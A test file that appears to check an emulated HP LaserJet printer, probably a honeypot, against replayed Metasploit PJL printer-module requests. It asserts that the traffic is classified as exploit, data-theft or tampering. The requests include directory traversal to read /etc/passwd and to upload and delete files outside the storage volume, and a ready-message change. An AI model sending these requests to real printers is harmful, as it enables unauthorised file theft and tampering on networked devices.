/**
 * The requests of Metasploit's printer modules (auxiliary/scanner/printer/*, rex/proto/pjl/client.rb), byte for byte over real
 * sockets, and the patterns by which they read the answers: both are facts of a public tool, none of it is its code.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { install, type Installation } from "./support/installation.ts";
import { UEL, visit } from "./support/visit.ts";

const WHOLE = 2_147_483_647;

describe("Metasploit's printer modules", () => {
  let printer: Installation;
  beforeAll(async () => void (printer = await install("hp-laserjet-4250")));
  afterAll(() => printer.close());

  /** One module: its commands in one job, each ended by LF alone, on a connection of its own. */
  const module = (...commands: readonly string[]) =>
    visit({ port: printer.raw, from: "127.0.0.31", send: [`${UEL}@PJL\n`, ...commands, UEL] });
  const mount = '@PJL FSINIT VOLUME = "0:"\n';
  const query = (path: string) => `@PJL FSQUERY NAME = "${path}"\n`;
  const download = (path: string) => `@PJL FSUPLOAD NAME = "${path}" OFFSET=0 SIZE=${WHOLE}\n`;
  const upload = (path: string, data: string) =>
    `@PJL FSDOWNLOAD FORMAT:BINARY SIZE=${data.length} NAME = "${path}"\n${data}${UEL}`;

  it("printer_version_info", async () => {
    expect(/"(.*?)"/s.exec(await module("@PJL INFO ID\n"))?.[1]).toBe("HP LaserJet 4250");
  });

  it("printer_env_vars", async () => {
    const variables = /@PJL INFO VARIABLES\r?\n(.*?)\f/s.exec(await module("@PJL INFO VARIABLES\n"))?.[1];
    expect(variables).toMatch(/^COPIES=1 \[2 RANGE\]$/m);
  });

  it("printer_list_volumes", async () => {
    const volumes = ["0:", "1:", "2:"].map((volume) => `@PJL FSINIT VOLUME = "${volume}"\n`);
    const table = /\[\d+ TABLE\]\r?\n(.*?)\f/s.exec(await module(...volumes, "@PJL INFO FILESYS\n"))?.[1];
    expect(table).toMatch(/^\t0:\t22962176\t\d+\tRAM\t\?\tREAD-WRITE\r\n$/m);
  });

  it("printer_ready_message: scan, change, reset", async () => {
    const status = "@PJL INFO STATUS\n";
    const shown = async (...before: string[]) => /DISPLAY="(.*?)"/s.exec(await module(...before, status))?.[1];
    expect(await shown()).toBe("Ready");
    expect(await shown('@PJL RDYMSG DISPLAY = "PC LOAD LETTER"\n')).toBe("PC LOAD LETTER");
    expect(await shown('@PJL RDYMSG DISPLAY = ""\n')).toBe("Ready");
  });

  it("printer_list_dir, with its default path", async () => {
    const answer = await module(mount, `@PJL FSDIRLIST NAME = "0:\\..\\..\\.." ENTRY=1 COUNT=${WHOLE}\n`);
    expect(/ENTRY=1\r?\n(.*?)\f/s.exec(answer)?.[1]?.split("\r\n")).toEqual(
      expect.arrayContaining([". TYPE=DIR", "etc TYPE=DIR", "hpmnt TYPE=DIR", "init TYPE=FILE SIZE=1136"]),
    );
  });

  it("printer_download_file, with its default path", async () => {
    const answer = await module(mount, download("0:\\..\\..\\..\\etc\\passwd"));
    expect(/SIZE=\d+\r?\n(.*)\f/s.exec(answer)?.[1]).toMatch(/^root:/);
  });

  it("printer_upload_file, printer_download_file and printer_delete_file, outside the volume and in it", async () => {
    const data = "X5O-like\r\n\f\0test";
    for (const path of ["0:\\..\\..\\..\\test.com", "0:\\test.com"]) {
      const put = await module(mount, upload(path, data), query(path));
      expect(/TYPE=(FILE|DIR)/s.exec(put)?.[1]).toBe("FILE");
      const got = await module(...(path.includes("..") ? [mount] : []), download(path));
      expect(/SIZE=\d+\r?\n(.*)\f/s.exec(got)?.[1]).toBe(data);
      const gone = await module(`@PJL FSDELETE NAME = "${path}"\n`, query(path));
      expect(/TYPE=(FILE|DIR)/s.test(gone)).toBe(false);
    }
  });

  it("is told as what it is", async () => {
    const cases = await printer.cases();
    const intents = cases.find((one) => one.source === "127.0.0.31");
    expect(intents?.intent).toMatch(/exploit|data-theft|tampering/);
  });
});
